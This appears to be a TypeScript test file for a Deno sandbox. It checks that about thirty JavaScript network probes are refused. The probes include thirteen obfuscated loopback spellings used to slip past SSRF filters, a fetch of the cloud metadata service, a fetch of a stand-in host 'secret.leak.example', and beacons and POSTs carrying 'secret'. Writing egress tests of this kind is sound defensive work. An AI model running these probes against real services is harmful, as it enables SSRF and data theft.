import { attempts, either, noSuchName, refused } from '../program-rows.ts';

/** Addresses that name the canary listener, each in another way. */
const spellings: Readonly<Record<string, string>> = {
  'by number': '127.0.0.1',
  'by name': 'localhost',
  'by a name that resolves to it': 'localtest.me',
  'by one decimal number': '2130706433',
  'in hexadecimal': '0x7f.1',
  'in octal': '0177.0.0.1',
  'in short': '127.1',
  'as any address': '0.0.0.0',
  'by IPv6': '[::1]',
  'as any address of IPv6': '[::]',
  'by IPv4 within IPv6': '[::ffff:127.0.0.1]',
  'with a dot at the end': 'localhost.',
  'with credentials': 'user:secret@127.0.0.1',
};

const withGlobals = { expectedWithGlobals: refused('NotCapable|TypeError|DOMException|NetworkError|Error') } as const;

const spelled = attempts(
  'network',
  noSuchName,
  Object.fromEntries(
    Object.entries(spellings).map(([name, host]) => [
      `fetch of the canary ${name}`,
      `(await fetch('http://${host}:' + canary.port + '/')).status`,
    ]),
  ),
  withGlobals,
);

const others = attempts(
  'network',
  noSuchName,
  {
    'fetch of a metadata service': `(await fetch('http://169.254.169.254/latest/meta-data/')).status`,
    'fetch of a name that carries data': `(await fetch('https://secret.leak.example/')).status`,
    'fetch with a body': `(await fetch('http://127.0.0.1:' + canary.port, { method: 'POST', body: 'secret' })).status`,
    'fetch that outlives the function': `{ void fetch('http://127.0.0.1:' + canary.port, { keepalive: true }).catch(() => {}); return await fetch('http://127.0.0.1:' + canary.port); }`,
    'fetch over a unix socket': `await fetch('http://localhost/', { client: Deno.createHttpClient({ proxy: { transport: 'unix', path: canary.socket } }) })`,
    'fetch through a proxy': `await fetch('http://x.example/', { client: Deno.createHttpClient({ proxy: { url: 'http://127.0.0.1:' + canary.port } }) })`,
    'fetch of a blob with a stream': `await (await fetch(new Request('http://127.0.0.1:' + canary.port, { method: 'POST', body: new Blob(['x']).stream(), duplex: 'half' }))).text()`,
    WebSocket: `await new Promise((resolve, reject) => { const socket = new WebSocket('ws://127.0.0.1:' + canary.port); socket.onopen = resolve; socket.onerror = (event) => reject(event.error ?? new TypeError('refused')); })`,
    WebSocketStream: `await new WebSocketStream('ws://127.0.0.1:' + canary.port).opened`,
    EventSource: `await new Promise((resolve, reject) => { const source = new EventSource('http://127.0.0.1:' + canary.port); source.onopen = resolve; source.onerror = () => reject(new TypeError('refused')); })`,
    WebTransport: `await new WebTransport('https://127.0.0.1:' + canary.port).ready`,
    XMLHttpRequest: `{ const request = new XMLHttpRequest(); request.open('GET', 'http://127.0.0.1:' + canary.port); request.send(); return 'sent'; }`,
    'a beacon': `navigator.sendBeacon('http://127.0.0.1:' + canary.port, 'secret')`,
    'a worker from the network': `{ const worker = new Worker('http://127.0.0.1:' + canary.port + '/x.js', { type: 'module' }); return await new Promise((resolve, reject) => { worker.onerror = (event) => { event.preventDefault(); reject(new TypeError(event.message)); }; worker.onmessage = resolve; }); }`,
    'a channel to other processes': `{ const channel = new BroadcastChannel('x'); channel.postMessage('secret'); throw new TypeError('it has no listener'); }`,
    'an image': `{ const image = new Image(); image.src = 'http://127.0.0.1:' + canary.port; return 'asked'; }`,
    RTCPeerConnection: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + canary.port }] }).createDataChannel('x').label`,
  },
  {
    expectedWithGlobals: either(
      refused('NotCapable|TypeError|DOMException|NetworkError|Error|ReferenceError|WebSocketError'),
      {
        reasons: ['memory_limit', 'exited_early'],
      },
    ),
  },
);

export const networkByWeb = [...spelled, ...others];
